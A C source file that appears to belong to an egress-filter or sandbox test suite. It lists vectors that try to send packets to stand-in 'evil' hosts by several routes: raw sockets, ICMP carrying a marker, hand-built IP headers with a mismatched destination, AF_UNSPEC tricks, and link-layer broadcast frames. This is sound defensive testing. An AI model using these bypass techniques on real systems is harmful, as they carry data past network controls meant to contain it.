// SPDX-License-Identifier: MIT
/* Sockets below the transport: the sender writes the headers. They need CAP_NET_RAW. */
#include "egress.h"

#include <linux/if_ether.h>
#include <net/if.h>
#include <netinet/ip_icmp.h>
#include <string.h>

/* A header number of those left for experiments (RFC 3692), which no port belongs to. */
#define EXPERIMENT 253

static void send_raw_ipv4(int fd, const char *address)
{
	struct sockaddr_in destination = ipv4(address);

	destination.sin_port = 0;
	send_to(fd, 0, &destination, sizeof(destination));
}

static void send_raw_ipv6(int fd, const char *address, int family)
{
	struct sockaddr_in6 destination = ipv6(address);

	destination.sin6_port = 0;
	destination.sin6_family = family;
	send_to(fd, 0, &destination, sizeof(destination));
}

static void raw4_icmp(int)
{
	unsigned char packet[64] = {ICMP_ECHO};
	struct sockaddr_in destination = ipv4(EVIL_IPV4);
	size_t length = sizeof(struct icmphdr) + strlen(self.marker);
	int fd = open_socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);

	memcpy(packet + sizeof(struct icmphdr), self.marker, strlen(self.marker));
	destination.sin_port = 0;
	step("sendto", sendto(fd, packet, length, 0, (struct sockaddr *)&destination, sizeof(destination)));
}

static void raw4_sendto(int)
{
	send_raw_ipv4(open_socket(AF_INET, SOCK_RAW, EXPERIMENT), EVIL_IPV4);
}

static void raw4_sendto_ok(int)
{
	send_raw_ipv4(open_socket(AF_INET, SOCK_RAW, EXPERIMENT), OK_IPV4);
}

static void raw4_sendto_unspec(int)
{
	int fd = open_socket(AF_INET, SOCK_RAW, EXPERIMENT);
	struct sockaddr_in destination = ipv4(EVIL_IPV4);

	destination.sin_port = 0;
	destination.sin_family = AF_UNSPEC;
	send_to(fd, 0, &destination, sizeof(destination));
}

static void raw6_sendto(int)
{
	send_raw_ipv6(open_socket(AF_INET6, SOCK_RAW, EXPERIMENT), EVIL_IPV6, AF_INET6);
}

static void raw6_sendto_unspec(int)
{
	send_raw_ipv6(open_socket(AF_INET6, SOCK_RAW, EXPERIMENT), EVIL_IPV6, AF_UNSPEC);
}

static void raw4_connect_send(int)
{
	int fd = open_socket(AF_INET, SOCK_RAW, EXPERIMENT);
	struct sockaddr_in destination = ipv4(EVIL_IPV4);

	destination.sin_port = 0;
	connect_to(fd, &destination, sizeof(destination));
	send_to(fd, 0, NULL, 0);
}

static void send_written_ipv4(int fd)
{
	unsigned char packet[128];
	size_t length = ipv4_datagram(packet, EVIL_IPV4);
	struct sockaddr_in destination = ipv4(OK_IPV4);

	destination.sin_port = 0;
	step("sendto", sendto(fd, packet, length, 0, (struct sockaddr *)&destination, sizeof(destination)));
}

/* The address given is that of a peer which may be reached, the one in the header is not. */
static void raw4_header(int)
{
	int fd = open_socket(AF_INET, SOCK_RAW, IPPROTO_UDP), yes = 1;

	set_option(fd, IPPROTO_IP, IP_HDRINCL, &yes, sizeof(yes));
	send_written_ipv4(fd);
}

static void raw4_header_always(int)
{
	send_written_ipv4(open_socket(AF_INET, SOCK_RAW, IPPROTO_RAW));
}

static int raw4_header_open(void)
{
	return open_socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
}

static void raw6_header(int)
{
	unsigned char packet[128];
	size_t length = ipv6_datagram(packet, EVIL_IPV6);
	struct sockaddr_in6 destination = ipv6(OK_IPV6);
	int fd = open_socket(AF_INET6, SOCK_RAW, IPPROTO_RAW), yes = 1;

	set_option(fd, IPPROTO_IPV6, IPV6_HDRINCL, &yes, sizeof(yes));
	destination.sin6_port = 0;
	step("sendto", sendto(fd, packet, length, 0, (struct sockaddr *)&destination, sizeof(destination)));
}

struct sockaddr_ll every_neighbour(void)
{
	return (struct sockaddr_ll){
		.sll_family = AF_PACKET,
		.sll_protocol = htons(ETH_P_IP),
		.sll_ifindex = if_nametoindex(OUR_INTERFACE),
		.sll_halen = ETH_ALEN,
		.sll_addr = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff},
	};
}

static void send_packet(int fd)
{
	unsigned char packet[128];
	size_t length = ipv4_datagram(packet, EVIL_IPV4);
	struct sockaddr_ll destination = every_neighbour();

	step("sendto", sendto(fd, packet, length, 0, (struct sockaddr *)&destination, sizeof(destination)));
}

static int packet_open(void)
{
	return open_socket(AF_PACKET, SOCK_DGRAM, 0);
}

static void packet_dgram(int)
{
	send_packet(packet_open());
}

static void packet_raw(int)
{
	unsigned char frame[128] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 2, 0, 0, 0, 0, 1, 8, 0};
	size_t length = ETH_HLEN + ipv4_datagram(frame + ETH_HLEN, EVIL_IPV4);
	int fd = open_socket(AF_PACKET, SOCK_RAW, 0);
	struct sockaddr_ll here = {
		.sll_family = AF_PACKET,
		.sll_protocol = htons(ETH_P_IP),
		.sll_ifindex = if_nametoindex(OUR_INTERFACE),
	};

	step("bind", bind(fd, (struct sockaddr *)&here, sizeof(here)));
	step("send", send(fd, frame, length, 0));
}

/* How Linux 2.0 had it; still there. */
static void packet_obsolete(int)
{
	unsigned char frame[128] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 2, 0, 0, 0, 0, 1, 8, 0};
	size_t length = ETH_HLEN + ipv4_datagram(frame + ETH_HLEN, EVIL_IPV4);
	int fd = open_socket(AF_INET, SOCK_PACKET, htons(ETH_P_IP));
	struct {
		unsigned short family;
		char device[14];
		unsigned short protocol;
	} destination = {AF_PACKET, OUR_INTERFACE, htons(ETH_P_IP)};

	step("sendto", sendto(fd, frame, length, 0, (struct sockaddr *)&destination, sizeof(destination)));
}

const struct vector raw_vectors[] = {
	{"raw4_icmp", raw4_icmp},
	{"raw4_sendto", raw4_sendto},
	{"raw4_sendto_ok", raw4_sendto_ok},
	{"raw4_sendto_unspec", raw4_sendto_unspec},
	{"raw6_sendto", raw6_sendto},
	{"raw6_sendto_unspec", raw6_sendto_unspec},
	{"raw4_connect_send", raw4_connect_send},
	{"raw4_header", raw4_header},
	{"raw4_header_always", raw4_header_always},
	{"raw4_header_prepared", send_written_ipv4, raw4_header_open},
	{"raw6_header", raw6_header},
	{"packet_dgram", packet_dgram},
	{"packet_raw", packet_raw},
	{"packet_obsolete", packet_obsolete},
	{"packet_prepared", send_packet, packet_open},
	{},
};
